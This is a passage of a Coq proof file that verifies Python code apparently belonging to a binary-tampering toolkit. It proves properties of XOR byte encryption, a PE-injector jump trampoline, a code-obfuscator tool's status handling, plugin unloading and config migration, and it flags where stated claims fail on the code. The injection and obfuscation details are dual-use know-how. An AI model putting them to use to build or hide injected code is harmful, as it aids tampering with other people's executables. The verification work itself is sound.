    + do 2 f_equal. rewrite map_map. rewrite <- (map_id data) at 2.
      apply map_ext. intros. apply lxor_twice.
    + apply Forall_map. eapply Forall_impl; [exact Hdata|].
      intros b Hb. by apply lxor_byte.
  - exists (rolling key4 0 data).
    assert (0 < length key4)%nat by lia.
    split; [by apply custom_xor_encrypt_ok|]. split.
    + intros i b Hi. unfold rolling.
      rewrite lookup_zip_with.
      assert (i < length data)%nat by (by eapply lookup_lt_Some).
      rewrite lookup_seqZ_lt by (unfold len; lia). simpl. rewrite Hi. simpl.
      do 3 f_equal. unfold len. rewrite Hlen.
      change (3 - snd (Nat.divmod i 3 0 3))%nat with (i mod 4)%nat.
      rewrite Z.add_0_l, <- (Nat2Z.inj_mod i 4). lia.
    + rewrite custom_xor_encrypt_ok; [|done|done|].
      * by rewrite rolling_twice.
      * apply rolling_byte; (done || lia).
Qed.

Lemma xor_transforms_undo_themselves_witness :
  (exists enc,
      _xor_encrypt 0x5A [0x90; 0xCC; 0x00; 0xFF; 0x41] Runtime_init
        = (Runtime_init, Returned enc) /\
      enc = map (λ b, Z.lxor b 0x5A) [0x90; 0xCC; 0x00; 0xFF; 0x41] /\
      _xor_encrypt 0x5A enc Runtime_init
        = (Runtime_init, Returned [0x90; 0xCC; 0x00; 0xFF; 0x41])) /\
  (exists enc,
      _custom_xor_encrypt [1; 2; 3; 255] [0x90; 0xCC; 0x00; 0xFF; 0x41] Runtime_init
        = (Runtime_init, Returned enc) /\
      (forall (i : nat) b, [0x90; 0xCC; 0x00; 0xFF; 0x41] !! i = Some b ->
         enc !! i = Some (Z.lxor b ([1; 2; 3; 255] !!! (i mod 4)%nat))) /\
      _custom_xor_encrypt [1; 2; 3; 255] enc Runtime_init
        = (Runtime_init, Returned [0x90; 0xCC; 0x00; 0xFF; 0x41])).
Proof.
  apply (xor_transforms_undo_themselves
           0x5A [1; 2; 3; 255] [0x90; 0xCC; 0x00; 0xFF; 0x41] Runtime_init).
  - lia.
  - reflexivity.
  - repeat constructor; unfold byte; lia.
  - repeat constructor; unfold byte; lia.
Defined.

(** ** The return trampoline (tools/pe_injector.py) *)

Lemma byte_of_shift (n k : Z) :
  0 <= k -> Z.land (Z.shiftr n (8 * k)) 0xFF = (n / 2 ^ (8 * k)) mod 256.
Proof.
  intros Hk. change 0xFF with (Z.ones 8).
  rewrite Z.land_ones by lia. rewrite Z.shiftr_div_pow2 by lia. done.
Qed.

Lemma to_bytes_little_signed_4 (n : Z) :
  - 2 ^ 31 <= n < 2 ^ 31 ->
  to_bytes_little_signed n 4
  = Returned [n mod 256; (n / 256) mod 256; (n / 65536) mod 256;
              (n / 16777216) mod 256].
Proof.
  intros Hn. unfold to_bytes_little_signed.
  change (8 * Z.of_nat 4 - 1) with 31.
  replace ((- 2 ^ 31 <=? n) && (n <? 2 ^ 31)) with true
    by (symmetry; apply andb_true_iff; lia).
  cbn [seq map]. rewrite !byte_of_shift by lia.
  change (2 ^ (8 * Z.of_nat 0)) with 1.
  change (2 ^ (8 * Z.of_nat 1)) with 256.
  change (2 ^ (8 * Z.of_nat 2)) with 65536.
  change (2 ^ (8 * Z.of_nat 3)) with 16777216.
  by rewrite Z.div_1_r.
Qed.

Lemma signed32_roundtrip (n : Z) :
  - 2 ^ 31 <= n < 2 ^ 31 ->
  signed32_of_little_endian (n mod 256) ((n / 256) mod 256)
    ((n / 65536) mod 256) ((n / 16777216) mod 256) = n.
Proof.
  intros Hn. unfold signed32_of_little_endian.
  pose proof (Z.div_mod n 256 ltac:(lia)) as E0.
  pose proof (Z.div_mod (n / 256) 256 ltac:(lia)) as E1.
  pose proof (Z.div_mod (n / 65536) 256 ltac:(lia)) as E2.
  pose proof (Z.div_mod (n / 16777216) 256 ltac:(lia)) as E3.
  replace (n / 256 / 256) with (n / 65536) in E1
    by (rewrite Z.div_div by lia; done).
  replace (n / 65536 / 256) with (n / 16777216) in E2
    by (rewrite Z.div_div by lia; done).
  pose proof (Z.mod_pos_bound n 256 ltac:(lia)).
  pose proof (Z.mod_pos_bound (n / 256) 256 ltac:(lia)).
  pose proof (Z.mod_pos_bound (n / 65536) 256 ltac:(lia)).
  pose proof (Z.mod_pos_bound (n / 16777216) 256 ltac:(lia)).
  change (2 ^ 31) with 2147483648 in *.
  change (2 ^ 32) with 4294967296.
  destruct (Z.ltb_spec
    (n mod 256 + 256 * ((n / 256) mod 256) + 65536 * ((n / 65536) mod 256) +
     16777216 * ((n / 16777216) mod 256)) 2147483648); lia.
Qed.

(** C6: when [to_addr - (from_addr + 5)] fits a signed 32-bit value,
    [_create_return_jump] returns five bytes: [0xE9], then the little-endian
    signed 32-bit encoding of that displacement.  For [from = 0x2000] and
    [to = 0x1000] these are [E9 FB EF FF FF], the encoding of
    [0x1000 - 0x2005]. *)
Theorem create_return_jump_encoding (from_addr to_addr : Z) :
  - 2 ^ 31 <= to_addr - (from_addr + 5) < 2 ^ 31 ->
  (exists b0 b1 b2 b3,
      _create_return_jump from_addr to_addr = Returned [0xE9; b0; b1; b2; b3] /\
      byte b0 /\ byte b1 /\ byte b2 /\ byte b3 /\
      signed32_of_little_endian b0 b1 b2 b3 = to_addr - (from_addr + 5)) /\
  _create_return_jump 0x2000 0x1000 = Returned [0xE9; 0xFB; 0xEF; 0xFF; 0xFF] /\
  signed32_of_little_endian 0xFB 0xEF 0xFF 0xFF = 0x1000 - 0x2005.
Proof.
  intros Hfit. split; [|split; reflexivity].
  unfold _create_return_jump.
  rewrite to_bytes_little_signed_4 by done.
  do 4 eexists. split; [reflexivity|].
  unfold byte.
  repeat split; try (apply Z.mod_pos_bound; lia).
  by apply signed32_roundtrip.
Qed.

Lemma create_return_jump_encoding_witness :
  (exists b0 b1 b2 b3,
      _create_return_jump 0x401000 0x1234 = Returned [0xE9; b0; b1; b2; b3] /\
      byte b0 /\ byte b1 /\ byte b2 /\ byte b3 /\
      signed32_of_little_endian b0 b1 b2 b3 = 0x1234 - (0x401000 + 5)) /\
  _create_return_jump 0x2000 0x1000 = Returned [0xE9; 0xFB; 0xEF; 0xFF; 0xFF] /\
  signed32_of_little_endian 0xFB 0xEF 0xFF 0xFF = 0x1000 - 0x2005.
Proof.
  apply (create_return_jump_encoding 0x401000 0x1234). lia.
Defined.

(** ** Tool status protocol (core/tool_base.py) *)

Lemma not_ready_spec (s : ToolStatus) : s <> READY <-> is_ready s = false.
Proof. destruct s; simpl; split; (done || congruence). Qed.

(** The structured result the wrapper returns for an Operation error. *)
Lemma error_handler_operation (fname msg : string) (rt : Runtime) :
  exists rt' d,
    error_handler fname (Raised (raise_exc OperationError msg)) rt
      = (rt', Returned d) /\
    py_getitem d "status" = Returned (PyStr "error") /\
    py_getitem d "error_code" = Returned (PyStr "ERR_OPERATION") /\
    py_getitem d "message" = Returned (PyStr msg).
Proof. do 2 eexists. split; [reflexivity|]. repeat split. Qed.

(** Whatever is raised, the wrapper returns a structured error result. *)
Lemma error_handler_never_raises (fname : string) (e : PyExc) (rt : Runtime) :
  exists rt' d,
    error_handler fname (Raised e) rt = (rt', Returned d) /\
    py_getitem d "status" = Returned (PyStr "error") /\
    py_getitem d "message" = Returned (PyStr (exc_msg e)).
Proof.
  unfold error_handler, handle_error.
  destruct e as [c msg det].
  destruct c; cbn -[record_error];
    repeat case_match; simplify_eq;
    (do 2 eexists; split; [reflexivity|by split]).
Qed.

Lemma try_recover_spec (e : PyExc) (rt : Runtime) :
  (try_recover e rt).2 = has_recovery_handler e /\
  error_stats (try_recover e rt).1 = error_stats rt /\
  log (try_recover e rt).1 = log rt.
Proof.
  unfold try_recover, has_recovery_handler.
  destruct (String.eqb _ "ERR_VALIDATION"); [done|].
  destruct (String.eqb _ "ERR_PLUGIN"); [|done].
  destruct (dict_get "plugin_name" (exc_details e)) as [n|]; [|done].
  by destruct (truthy n).
Qed.

Lemma handler_keeps_stats (e : PyExc) (ctx : option string) (rt : Runtime) :
  error_stats
    (match exc_class e with
     | ValidationError => _handle_validation_error e ctx rt
     | SecurityError => _handle_security_error e ctx rt
     | PluginError => _handle_plugin_error e ctx rt
     | OperationError => _handle_operation_error e ctx rt
     | _ => _handle_default_error e ctx rt
     end).1 = error_stats rt.
Proof. by destruct (exc_class e). Qed.

Lemma handler_log (e : PyExc) (ctx : option string) (rt : Runtime) :
  exists entry,
    log (match exc_class e with
         | ValidationError => _handle_validation_error e ctx rt
         | SecurityError => _handle_security_error e ctx rt
         | PluginError => _handle_plugin_error e ctx rt
         | OperationError => _handle_operation_error e ctx rt
         | _ => _handle_default_error e ctx rt
         end).1 = log rt ++ [entry] /\
    entry <> recovery_line e.
Proof.
  unfold recovery_line.
  destruct (exc_class e); eexists; (split; [reflexivity|discriminate]).
Qed.

(** What one call of [handle_error] appends to the log: the line announcing
    the recovery when there is one, then the entry of the handler. *)
Lemma handle_error_log (e : PyExc) (ctx : option string) (rt : Runtime) :
  exists entry,
    entry <> recovery_line e /\
    log (handle_error e ctx rt).1
    = log rt
      ++ (if is_BedToolsError (exc_class e) && has_recovery_handler e
          then [recovery_line e] else [])
      ++ [entry].
Proof.
  unfold handle_error.
  set (rt1 := if is_BedToolsError (exc_class e) then _ else rt).
  destruct (handler_log e ctx rt1) as (entry & -> & Hentry).
  exists entry. split; [done|]. rewrite app_assoc. f_equal.
  subst rt1. destruct (is_BedToolsError (exc_class e)); cbn [andb].
  - set (rt0 := MkRuntime _ _ _).
    destruct (try_recover_spec e rt0) as (Hr & _ & Hl).
    destruct (try_recover e rt0) as [rt2 recovered]. cbn [fst snd] in Hr, Hl.
    subst recovered. destruct (has_recovery_handler e).
    + cbn [emit log]. by rewrite Hl.
    + by rewrite Hl, app_nil_r.
  - by rewrite app_nil_r.
Qed.

Lemma handle_error_logs (e : PyExc) (ctx : option string) (rt : Runtime) :
  exists entries,
    log (handle_error e ctx rt).1 = log rt ++ entries /\ entries <> [].
Proof.
  destruct (handle_error_log e ctx rt) as (entry & _ & ->).
  eexists. split; [reflexivity|]. by destruct (_ && _).
Qed.

(** Through the decorator a returned value passes unchanged, with nothing
    recorded or logged.  An exception that is one of the toolkit's errors,
    or whose class bears none of the four names a handler is registered
    under, is not re-raised: it comes back as a structured error result
    carrying the exception's message. *)
Theorem error_handler_swallows_exceptions (fname : string)
    (r : outcome PyVal) (rt : Runtime) :
  (forall a, r = Returned a -> error_handler fname r rt = (rt, Returned a)) /\
  (forall e, r = Raised e -> dispatched_by_class e = true ->
     exists rt' v,
       error_handler fname r rt = (rt', Returned v) /\
       py_getitem v "status" = Returned (PyStr "error") /\
       py_getitem v "message" = Returned (PyStr (exc_msg e))).
Proof.
  split.
  - by intros a ->.
  - intros e -> _.
    destruct (error_handler_never_raises fname e rt) as (rt' & d & Hd & ? & ?).
    by exists rt', d.
Qed.

(** C1 (as the code has it): with status other than ready, the body of
    [execute] raises an Operation error naming the tool and the status, leaves
    the tool as it was and does not invoke [_execute]; with status ready it
    invokes [_execute] once on the tool set to running, then sets ready and
    returns the result, or sets error, stores the exception and re-raises.
    The call itself goes through [@error_handler]: the Operation error of
    the status check, and every exception of [_execute] that is one of the
    toolkit's errors or whose class bears none of the names a handler is
    registered under, reaches the caller as a structured error result. *)
Theorem execute_status_protocol
    (cls : ToolClass) (now : Z) (args : list PyVal) (kwargs : pydict PyVal)
    (t : Tool) (rt : Runtime) (calls : list Invocation) :
  (status t <> READY ->
     let msg := "工具 " +:+ name cls +:+ " 状态不正确: " +:+ status_str (status t) in
     execute_body cls now args kwargs t rt calls
       = (t, rt, calls, Raised (raise_exc OperationError msg)) /\
     exists rt' d,
       execute cls now args kwargs t rt calls = (t, rt', calls, Returned d) /\
       py_getitem d "status" = Returned (PyStr "error") /\
       py_getitem d "error_code" = Returned (PyStr "ERR_OPERATION") /\
       py_getitem d "message" = Returned (PyStr msg)) /\
  (status t = READY ->
     let running :=
       set_progress (ProgressInfo_start now (ToolBase.progress t)) (set_status RUNNING t) in
     let calls' := calls ++ [(running, args, kwargs)] in
     status running = RUNNING /\
     forall t3 rt3 r,
       _execute cls args kwargs running rt = (t3, rt3, r) ->
       match r with
       | Returned result =>
           execute_body cls now args kwargs t rt calls
             = (set_status READY t3, rt3, calls', Returned result) /\
           execute cls now args kwargs t rt calls
             = (set_status READY t3, rt3, calls', Returned result)
       | Raised e =>
           let failed := set_error (Some e) (set_status ERROR t3) in
           status failed = ERROR /\ _error failed = Some e /\
           execute_body cls now args kwargs t rt calls
             = (failed, rt3, calls', Raised e) /\
           (dispatched_by_class e = true ->
            exists rt' d,
              execute cls now args kwargs t rt calls
                = (failed, rt', calls', Returned d) /\
              py_getitem d "status" = Returned (PyStr "error") /\
              py_getitem d "message" = Returned (PyStr (exc_msg e)))
       end).
Proof.
  split.
  - intros Hst msg. apply not_ready_spec in Hst.
    assert (Hbody : execute_body cls now args kwargs t rt calls
                    = (t, rt, calls, Raised (raise_exc OperationError msg))).
    { unfold execute_body. by rewrite Hst. }
    split; [done|].
    unfold execute. rewrite Hbody.
    destruct (error_handler_operation "execute" msg rt)
      as (rt' & d & Hd & ? & ? & ?).
    exists rt', d. by rewrite Hd.
  - intros Hst running calls'. split; [done|].
    intros t3 rt3 r Hexec.
    assert (Hbody : execute_body cls now args kwargs t rt calls
              = match r with
                | Returned result =>
                    (set_status READY t3, rt3, calls', Returned result)
                | Raised e =>
                    (set_error (Some e) (set_status ERROR t3), rt3, calls',
                     Raised e)
                end).
    { unfold execute_body. rewrite Hst. simpl.
      fold running. rewrite Hexec. by destruct r. }
    destruct r as [result|e].
    + split; [done|]. unfold execute. by rewrite Hbody.
    + cbv zeta. split; [done|]. split; [done|]. split; [done|].
      intros _. unfold execute. rewrite Hbody.
      destruct (error_handler_never_raises "execute" e rt3)
        as (rt' & d & Hd & ? & ?).
      exists rt', d. by rewrite Hd.
Qed.

(** C1, as stated, fails on the code: the call [execute()] on a fresh
    (uninitialized) tool does not raise but returns the structured error,
    and a failing [_execute] is not re-raised to the caller either. *)
Lemma execute_returns_structured_error :
  (exists rt',
     execute sample_tool 0 [] [] fresh_tool Runtime_init []
     = (fresh_tool, rt', [],
        Returned (PyDict [
          ("status", PyStr "error");
          ("error_code", PyStr "ERR_OPERATION");
          ("message",
           PyStr "工具 Code Obfuscator 状态不正确: ToolStatus.UNINITIALIZED");
          ("type", PyStr "operation");
          ("severity", PyStr "ERROR");
          ("category", PyStr "BUSINESS");
          ("details", PyDict [])]))) /\
  (exists t' rt' calls' d,
     execute sample_tool 0 [] [] ready_tool Runtime_init []
     = (t', rt', calls', Returned d) /\
     status t' = ERROR /\
     py_getitem d "error_code" = Returned (PyStr "ERR_OPERATION")).
Proof.
  split.
  - eexists. vm_compute. reflexivity.
  - do 4 eexists. split; [vm_compute; reflexivity|]. by split.
Qed.

(** On a ready tool the call runs [_execute] once, on the tool set to
    running, and leaves it ready. *)
Example execute_on_ready_tool :
  execute sample_tool 7 [PyStr "in.bin"; PyStr "out.bin"] [] ready_tool
          Runtime_init []
  = (set_progress (ProgressInfo_start 7 ProgressInfo_init) ready_tool,
     Runtime_init,
     [(set_progress (ProgressInfo_start 7 ProgressInfo_init)
         (set_status RUNNING ready_tool),
       [PyStr "in.bin"; PyStr "out.bin"], [])],
     Returned (PyBool true)).
Proof. reflexivity. Qed.

(** ** Unloading a plugin (plugins/plugin_manager.py) *)

Lemma dict_get_set_eq {V} (k : string) (v : V) (d : pydict V) :
  dict_get k (dict_set k v d) = Some v.
Proof.
  induction d as [|[k' v'] d IH]; simpl.
  - by rewrite String.eqb_refl.
  - destruct (String.eqb_spec k k'); simpl.
    + by rewrite String.eqb_refl.
    + destruct (String.eqb_spec k k'); [done|apply IH].
Qed.

Lemma dict_get_set_ne {V} (k k' : string) (v : V) (d : pydict V) :
  k <> k' -> dict_get k' (dict_set k v d) = dict_get k' d.
Proof.
  intros Hne. induction d as [|[k0 v0] d IH]; simpl.
  - destruct (String.eqb_spec k' k); [congruence|done].
  - destruct (String.eqb_spec k k0) as [->|]; simpl.
    + destruct (String.eqb_spec k' k0); [congruence|done].
    + destruct (String.eqb_spec k' k0); [done|apply IH].
Qed.

Lemma dict_keys_set_present {V} (k : string) (v : V) (d : pydict V) :
  dict_mem k d = true -> dict_keys (dict_set k v d) = dict_keys d.
Proof.
  unfold dict_mem. induction d as [|[k0 v0] d IH]; simpl; [done|].
  destruct (String.eqb_spec k k0) as [->|]; simpl; [done|].
  intros H. f_equal. by apply IH.
Qed.

Lemma dict_get_None_keys {V} (k : string) (d : pydict V) :
  dict_get k d = None <-> k ∉ dict_keys d.
Proof.
  induction d as [|[k0 v0] d IH]; simpl.
  - split; [intros _; apply not_elem_of_nil|done].
  - rewrite not_elem_of_cons. destruct (String.eqb_spec k k0); simpl.
    + split; [done|]. intros [? _]. done.
    + rewrite IH. tauto.
Qed.

Lemma dict_get_del_eq {V} (k : string) (d : pydict V) :
  NoDup (dict_keys d) -> dict_get k (dict_del k d) = None.
Proof.
  induction d as [|[k0 v0] d IH]; simpl; [done|].
  intros Hnd. apply NoDup_cons in Hnd as [Hk0 Hnd].
  destruct (String.eqb_spec k k0) as [->|]; simpl.
  - by apply dict_get_None_keys.
  - destruct (String.eqb_spec k k0); [done|by apply IH].
Qed.

Lemma dict_get_del_ne {V} (k k' : string) (d : pydict V) :
  k <> k' -> dict_get k' (dict_del k d) = dict_get k' d.
Proof.
  intros Hne. induction d as [|[k0 v0] d IH]; simpl; [done|].
  destruct (String.eqb_spec k k0) as [->|]; simpl.
  - destruct (String.eqb_spec k' k0); [congruence|done].
  - destruct (String.eqb_spec k' k0); [done|apply IH].
Qed.

Lemma append_assoc (a b c : string) : (a +:+ b) +:+ c = a +:+ b +:+ c.
Proof.
  induction a as [|x a IH]; [done|].
  change (String x ((a +:+ b) +:+ c) = String x (a +:+ b +:+ c)).
  by rewrite IH.
Qed.

Lemma mentions_prefixed (p msg name : string) :
  mentions msg name -> mentions (p +:+ msg) name.
Proof.
  intros (b & a & ->). exists (p +:+ b), a. by rewrite append_assoc.
Qed.

Lemma append_empty_r (s : string) : s +:+ "" = s.
Proof.
  induction s as [|x s IH]; [done|].
  change (String x (s +:+ "") = String x s). by rewrite IH.
Qed.

Lemma str_join_mentions (sep : string) (l : list string) (s : string) :
  s ∈ l -> mentions (str_join sep l) s.
Proof.
  induction l as [|s0 l IH]; [by intros ?%elem_of_nil|].
  intros [->|Hin]%elem_of_cons.
  - destruct l as [|s1 l]; simpl.
    + exists "", "". cbn. by rewrite append_empty_r.
    + exists "", (sep +:+ str_join sep (s1 :: l)). done.
  - destruct l as [|s1 l]; [by apply elem_of_nil in Hin|].
    change (str_join sep (s0 :: s1 :: l))
      with (s0 +:+ sep +:+ str_join sep (s1 :: l)).
    apply mentions_prefixed, mentions_prefixed. by apply IH.
Qed.

(** The structured result the wrapper returns for a Plugin error. *)
Lemma error_handler_plugin (fname msg : string) (rt : Runtime) :
  exists rt' d,
    error_handler fname (Raised (raise_exc PluginError msg)) rt
      = (rt', Returned d) /\
    py_getitem d "status" = Returned (PyStr "error") /\
    py_getitem d "error_code" = Returned (PyStr "ERR_PLUGIN") /\
    py_getitem d "message" = Returned (PyStr msg).
Proof. do 2 eexists. split; [reflexivity|]. repeat split. Qed.

Lemma find_dependent_plugins_complete (pm : PluginManager) (A B : string)
    (md : PluginMetadata) :
  (B, md) ∈ metadata_cache pm ->
  dict_mem A (md_dependencies md) = true ->
  B ∈ _find_dependent_plugins pm A.
Proof.
  intros Hin Hdep. unfold _find_dependent_plugins.
  apply list_elem_of_In, in_map_iff. exists (B, md). split; [done|].
  apply filter_In. split; [by apply list_elem_of_In|done].
Qed.

Lemma dict_del_absent {V} (k : string) (d : pydict V) :
  dict_mem k d = false -> dict_del k d = d.
Proof.
  unfold dict_mem. induction d as [|[k0 v0] d IH]; simpl; [done|].
  destruct (String.eqb_spec k k0); [done|]. intros H. f_equal. by apply IH.
Qed.

Lemma guarded_del {V} (k : string) (d : pydict V) :
  (if dict_mem k d then dict_del k d else d) = dict_del k d.
Proof.
  destruct (dict_mem k d) eqn:E; [done|]. symmetry. by apply dict_del_absent.
Qed.

(** C2 (as the code has it), for a loaded plugin [A].  If some cached
    metadata lists [A] among its dependencies, the body of [unload_plugin]
    raises a Plugin error whose message names every such plugin, nothing is
    cleaned up and the manager is unchanged; the caller receives it as the
    structured Plugin error.  If none does, [A]'s [cleanup] is called; when it
    returns, [A] is removed from the registry, the metadata cache and the
    file-watch table (other entries stay) and the call returns true; when it
    raises, [A] stays registered and the call fails with a Plugin error. *)
Theorem unload_plugin_protocol
    (A : string) (plugin : Plugin) (pm : PluginManager) (rt : Runtime)
    (cleanups : list string) :
  dict_get A (plugins pm) = Some plugin ->
  NoDup (dict_keys (plugins pm)) ->
  NoDup (dict_keys (metadata_cache pm)) ->
  NoDup (dict_keys (file_watchers pm)) ->
  let dependents := _find_dependent_plugins pm A in
  (dependents <> [] ->
     let msg := unload_failed_message A (blocked_message A dependents) in
     (exists rt1,
        unload_plugin_body A pm rt cleanups
          = (pm, rt1, cleanups, Raised (raise_exc PluginError msg))) /\
     (exists rt' d,
        unload_plugin A pm rt cleanups = (pm, rt', cleanups, Returned d) /\
        py_getitem d "status" = Returned (PyStr "error") /\
        py_getitem d "error_code" = Returned (PyStr "ERR_PLUGIN") /\
        py_getitem d "message" = Returned (PyStr msg)) /\
     (forall B md, (B, md) ∈ metadata_cache pm ->
        dict_mem A (md_dependencies md) = true -> mentions msg B) /\
     dict_mem A (plugins pm) = true) /\
  (dependents = [] ->
     forall self' rt1 r,
       p_cleanup plugin (p_self plugin) rt = (self', rt1, r) ->
       match r with
       | Returned _ =>
           unload_plugin A pm rt cleanups
             = (without A pm, emit (LogPlugin A "unload" true None) rt1,
                cleanups ++ [A], Returned (PyBool true)) /\
           dict_get A (plugins (without A pm)) = None /\
           dict_get A (metadata_cache (without A pm)) = None /\
           dict_get A (file_watchers (without A pm)) = None /\
           (forall B, B <> A ->
              dict_get B (plugins (without A pm)) = dict_get B (plugins pm) /\
              dict_get B (metadata_cache (without A pm))
                = dict_get B (metadata_cache pm) /\
              dict_get B (file_watchers (without A pm))
                = dict_get B (file_watchers pm))
       | Raised e =>
           exists pm' rt2,
             unload_plugin_body A pm rt cleanups
               = (pm', rt2, cleanups ++ [A],
                  Raised (raise_exc PluginError
                            (unload_failed_message A (exc_msg e)))) /\
             dict_mem A (plugins pm') = true /\
             metadata_cache pm' = metadata_cache pm /\
             file_watchers pm' = file_watchers pm
       end).
Proof.
  intros Hget Hp Hm Hf dependents. split.
  - intros Hdep msg.
    assert (Hbody : unload_plugin_body A pm rt cleanups
      = (pm, emit (LogPlugin A "unload" false
                     (Some (blocked_message A dependents))) rt,
         cleanups, Raised (raise_exc PluginError msg))).
    { unfold unload_plugin_body, unload_try. rewrite Hget.
      fold dependents. by destruct dependents. }
    split; [by eexists|]. split; [|split].
    + unfold unload_plugin. rewrite Hbody.
      destruct (error_handler_plugin "unload_plugin" msg
                  (emit (LogPlugin A "unload" false
                           (Some (blocked_message A dependents))) rt))
        as (rt' & d & Hd & ? & ? & ?).
      exists rt', d. by rewrite Hd.
    + intros B md Hin HA.
      unfold msg, unload_failed_message, blocked_message.
      do 6 apply mentions_prefixed.
      apply str_join_mentions. by eapply find_dependent_plugins_complete.
    + unfold dict_mem. by rewrite Hget.
  - intros Hdep self' rt1 r Hclean.
    assert (Htry : unload_try A plugin pm rt cleanups
      = match r with
        | Returned _ =>
            (without A pm, emit (LogPlugin A "unload" true None) rt1,
             cleanups ++ [A], Returned (PyBool true))
        | Raised e =>
            (MkPluginManager
               (dict_set A (with_self self' plugin) (plugins pm))
               (metadata_cache pm) (file_watchers pm) (disabled_plugins pm),
             rt1, cleanups ++ [A], Raised e)
        end).
    { unfold unload_try. fold dependents. rewrite Hdep, Hclean.
      destruct r; [|done]. unfold without. by rewrite !guarded_del. }
    destruct r as [[]|e].
    + split.
      * unfold unload_plugin, unload_plugin_body. by rewrite Hget, Htry.
      * simpl. rewrite !dict_get_del_eq by done. repeat split; try done;
          by apply dict_get_del_ne.
    + do 2 eexists. split.
      * unfold unload_plugin_body. rewrite Hget, Htry. reflexivity.
      * simpl. unfold dict_mem. by rewrite dict_get_set_eq.
Qed.

Lemma unload_plugin_protocol_witness :
  (exists rt' d,
     unload_plugin "A" two_plugins Runtime_init []
       = (two_plugins, rt', [], Returned d) /\
     py_getitem d "error_code" = Returned (PyStr "ERR_PLUGIN")) /\
  mentions (unload_failed_message "A" (blocked_message "A" ["B"])) "B" /\
  unload_plugin "B" two_plugins Runtime_init []
    = (without "B" two_plugins,
       emit (LogPlugin "B" "unload" true None) Runtime_init, ["B"],
       Returned (PyBool true)).
Proof.
  assert (HA : dict_get "A" (plugins two_plugins)
               = Some (plugin_of (metadata_of "A" []) quiet_cleanup))
    by reflexivity.
  assert (HB : dict_get "B" (plugins two_plugins)
               = Some (plugin_of (metadata_of "B" [("A", PyStr "1.0.0")])
                         quiet_cleanup))
    by reflexivity.
  assert (N1 : NoDup (dict_keys (plugins two_plugins))) by compute_done.
  assert (N2 : NoDup (dict_keys (metadata_cache two_plugins))) by compute_done.
  assert (N3 : NoDup (dict_keys (file_watchers two_plugins))) by compute_done.
  destruct (unload_plugin_protocol "A" _ two_plugins Runtime_init [] HA N1 N2 N3)
    as [Hblocked _].
  destruct (unload_plugin_protocol "B" _ two_plugins Runtime_init [] HB N1 N2 N3)
    as [_ Hfree].
  destruct Hblocked as (_ & (rt' & d & Hd & _ & Hcode & _) & Hnames & _);
    [discriminate|].
  split; [by exists rt', d|]. split.
  - apply (Hnames "B" (metadata_of "B" [("A", PyStr "1.0.0")])).
    + apply list_elem_of_In. right. by left.
    + reflexivity.
  - specialize (Hfree eq_refl PyNone Runtime_init (Returned tt) eq_refl).
    apply Hfree.
Defined.

(** C2, as stated, fails on the code: with no plugin depending on [A], an
    [A] whose [cleanup] raises is cleaned up once, stays in the registry,
    the metadata cache and the file-watch table, and the call gives a
    Plugin error instead of true.  (A blocked unload does not raise to the
    caller either: with [B] depending on [A], the call returns the structured
    Plugin error.) *)
Lemma unload_keeps_plugin_whose_cleanup_raises :
  _find_dependent_plugins stubborn_plugin "A" = [] /\
  (exists pm' rt' d,
     unload_plugin "A" stubborn_plugin Runtime_init []
       = (pm', rt', ["A"], Returned d) /\
     dict_mem "A" (plugins pm') = true /\
     dict_mem "A" (metadata_cache pm') = true /\
     dict_mem "A" (file_watchers pm') = true /\
     py_getitem d "error_code" = Returned (PyStr "ERR_PLUGIN") /\
     py_getitem d "message" = Returned (PyStr "卸载插件 A 失败: device busy")) /\
  (exists rt' d,
     unload_plugin "A" two_plugins Runtime_init []
       = (two_plugins, rt', [], Returned d) /\
     py_getitem d "error_code" = Returned (PyStr "ERR_PLUGIN") /\
     py_getitem d "message"
       = Returned (PyStr "卸载插件 A 失败: 无法卸载插件 A，以下插件依赖它: B")).
Proof.
  split; [reflexivity|]. split.
  - do 3 eexists. split; [vm_compute; reflexivity|]. by repeat split.
  - do 2 eexists. split; [vm_compute; reflexivity|]. by split.
Qed.

(** ** Configuration migration and validation (config/config_manager.py) *)

Lemma dict_mem_set {V} (k k' : string) (v : V) (d : pydict V) :
  dict_mem k d = true -> dict_mem k' (dict_set k v d) = dict_mem k' d.
Proof.
  intros Hk. unfold dict_mem in *.
  destruct (String.eqb_spec k k') as [<-|Hne].
  - rewrite dict_get_set_eq. by destruct (dict_get k d).
  - by rewrite dict_get_set_ne.
Qed.

(** What the migration loop leaves under each key. *)
Lemma migrate_fold_spec (items d : list (string * PyVal)) :
  NoDup (dict_keys items) ->
  let result := fold_left migrate_step items d in
  dict_keys result = dict_keys d /\
  forall k,
    dict_get k result =
      if dict_mem k d && negb (String.prefix "_" k)
      then match dict_get k items with
           | Some v => Some v
           | None => dict_get k d
           end
      else dict_get k d.
Proof.
  revert d. induction items as [|[key value] items IH]; intros d Hnd.
  - simpl. split; [done|]. intros k. by destruct (_ && _).
  - apply NoDup_cons in Hnd as [Hkey Hnd]. cbn [fold_left].
    simpl in Hkey. apply dict_get_None_keys in Hkey.
    destruct (IH (migrate_step d (key, value)) Hnd) as [Hkeys Hget].
    cbv zeta. rewrite Hkeys. clear Hkeys.
    assert (Hstep : migrate_step d (key, value)
              = if dict_mem key d && negb (String.prefix "_" key)
                then dict_set key value d else d) by reflexivity.
    destruct (dict_mem key d && negb (String.prefix "_" key)) eqn:Hcond;
      rewrite Hstep in *; clear Hstep.
    + apply andb_true_iff in Hcond as [Hmem Hpre]. split.
      * by apply dict_keys_set_present.
      * intros k. rewrite Hget. rewrite dict_mem_set by done.
        simpl. destruct (String.eqb_spec k key) as [->|Hne].
        -- rewrite Hmem, Hpre. simpl. rewrite Hkey.
           by rewrite dict_get_set_eq.
        -- rewrite dict_get_set_ne by done. done.
    + split; [done|]. intros k. rewrite Hget. simpl.
      destruct (String.eqb_spec k key) as [->|Hne]; [|done].
      by rewrite Hcond.
Qed.

Lemma save_config_written (disk : Disk) (d : list (string * PyVal))
    (f : SettingsFile) (rt : Runtime) :
  write_failure disk (to_save d) = None ->
  save_config disk (MkConfigManager (PyDict d) f) rt
  = (MkConfigManager (PyDict d) (saved d), rt, Returned PyNone).
Proof.
  unfold write_failure, save_config, save_config_body, write_settings, to_save.
  cbn [Config.config settings_file].
  destruct (makedirs disk) as [[]|?]; [|done].
  destruct (open_w disk) as [[]|?]; [|done].
  by destruct (dump disk _) as [[]|?].
Qed.

Lemma save_config_failed (disk : Disk) (d : list (string * PyVal))
    (f : SettingsFile) (rt : Runtime) (e : PyExc) :
  write_failure disk (to_save d) = Some e ->
  exists f' rt' v,
    save_config disk (MkConfigManager (PyDict d) f) rt
    = (MkConfigManager (PyDict d) f', rt', Returned v) /\
